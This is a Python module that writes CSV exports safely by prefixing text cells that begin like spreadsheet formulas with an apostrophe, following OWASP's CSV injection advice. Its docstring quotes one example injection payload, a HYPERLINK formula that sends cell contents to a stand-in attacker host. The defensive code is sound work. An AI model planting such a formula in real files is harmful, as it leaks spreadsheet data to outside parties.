"""The one CSV writer of every `--csv`, with cells a spreadsheet never runs as formulas.

A title such as `=HYPERLINK("http://evil.example/?"&A1,"Click")` opened from a CSV export runs
in Excel, LibreOffice and Google Sheets. Following OWASP's "CSV Injection" advice, a text cell
that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is written with a leading `'`
(which spreadsheets show as text and do not display); the csv module quotes the rest. A cell
that is a plain decimal number (`-0.56`, `+1.45`: a rate's change) cannot be a formula and is
written as it is, so numbers stay numbers.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")


def safe_cell(value: Any) -> Any:
    """The value as a CSV cell no spreadsheet evaluates: text starting like a formula gets a
    leading `'`; numbers, None and other text are unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def write_csv(stream: TextIO, rows: Iterable[Mapping[str, Any]], columns: list[str]) -> None:
    """A header of `columns`, then each row's values for them (other keys ignored), every cell
    through `safe_cell`."""
    writer = csv.writer(stream, lineterminator="\n")
    writer.writerow([safe_cell(column) for column in columns])
    for row in rows:
        writer.writerow([safe_cell(row.get(column)) for column in columns])
